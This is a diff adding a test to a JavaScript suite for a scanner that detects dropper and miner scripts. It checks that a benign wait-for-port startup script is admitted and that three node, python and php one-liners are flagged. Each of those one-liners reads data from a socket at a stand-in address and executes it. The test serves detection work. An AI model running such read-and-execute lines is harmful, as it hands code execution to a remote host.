@@ -80,3 +80,19 @@ t.test('what runs child_process, builtins or a fetched text is still a dropper b
     t.same(signals(gatedScanner, line), signals(ungatedScanner, line), `gated and ungated agree on ${line}`)
   }
 })
+
+t.test('a wait-for-port check that connects a socket and reads nothing from it is admitted beside a download into /tmp', async (t) => {
+  const script = [
+    '#!/bin/sh',
+    'curl -fsSL -o /tmp/cfg.json https://config.example.com/cfg.json',
+    `node -e 'require("net").connect(5432, "db").on("connect", () => require("child_process").exec("touch /tmp/ready"))'`,
+    `python3 -c 'import socket, os; socket.create_connection(("db", 5432), 2); os.system("touch /tmp/ready")'`,
+    'exec node /srv/index.js',
+  ].join('\n')
+  t.same(dropperKinds(script), [])
+  t.same(minerVerdicts({ command: ['sh', '/app/run.sh'] }, ['run.sh', script]), [])
+  // What is read from the socket is what runs: the same lines reading it are droppers.
+  t.same(dropperKinds(`node -e 'require("net").connect(80, "203.0.113.9").on("data", (d) => require("child_process").exec(String(d)))'`), ['download-to-shell'])
+  t.same(dropperKinds(`python3 -c 'import socket, os; s = socket.create_connection(("203.0.113.9", 80)); os.system(s.recv(4096))'`), ['download-to-shell'])
+  t.same(dropperKinds(`php -r '$f = fsockopen("203.0.113.9", 80); system(stream_get_contents($f));'`), ['download-to-shell'])
+})
